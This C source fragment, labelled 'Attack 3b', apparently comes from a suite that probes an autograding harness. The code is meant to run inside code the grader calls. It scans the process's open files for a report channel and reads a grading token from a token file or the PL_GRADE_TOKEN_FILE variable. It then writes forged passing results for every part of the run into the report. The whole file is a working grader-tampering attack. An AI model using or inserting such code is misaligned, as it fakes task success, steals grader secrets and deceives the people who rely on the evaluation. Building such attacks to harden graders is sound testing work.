
/* Attack 3b (appended to the stub, run by its ring_all_reduce: replay.sh): once the grader
 * calls the lab's code, look for the report token where it was on its way in (the token
 * file in the run's folder, the environment) and write a pass for every part of the run,
 * with every token candidate found, to the report channel (found among the open files). */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void attack_write(const char *channel, const char *token, const char *parts)
{
    FILE *r = fopen(channel, "a");
    if (!r) return;
    char list[512];
    snprintf(list, sizeof list, "%s", parts);
    for (char *p = strtok(list, ","); p; p = strtok(NULL, ","))
        fprintf(r, "%s result %s 1 0.01\n", token, p);
    fclose(r);
}

static void attack_run(void)
{
    static int done;
    if (done++) return;
    char args[8192], channel[4096] = "", link[600], token[128];
    FILE *c = fopen("/proc/self/cmdline", "r");
    size_t n = c ? fread(args, 1, sizeof args - 1, c) : 0;
    if (c) fclose(c);
    args[n] = '\0';
    const char *parts = "correct";
    for (size_t i = 0; i < n; i += strlen(args + i) + 1)
        if (!strcmp(args + i, "--parts") && i + 7 < n) parts = args + i + 8;
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        snprintf(link, sizeof link, "/proc/self/fd/%s", e->d_name);
        ssize_t l = readlink(link, channel, sizeof channel - 1);
        channel[l > 0 ? l : 0] = '\0';
        if (strstr(channel, "report")) break;
        channel[0] = '\0';
    }
    if (d) closedir(d);
    if (!channel[0]) return;
    const char *candidates[] = {"token", getenv("PL_GRADE_TOKEN_FILE")};
    for (int k = 0; k < 2; k++) {
        FILE *t = candidates[k] ? fopen(candidates[k], "r") : NULL;
        if (t && fgets(token, sizeof token, t)) {
            token[strcspn(token, " \n")] = '\0';
            attack_write(channel, token, parts);
        }
        if (t) fclose(t);
    }
    attack_write(channel, "-", parts);
}
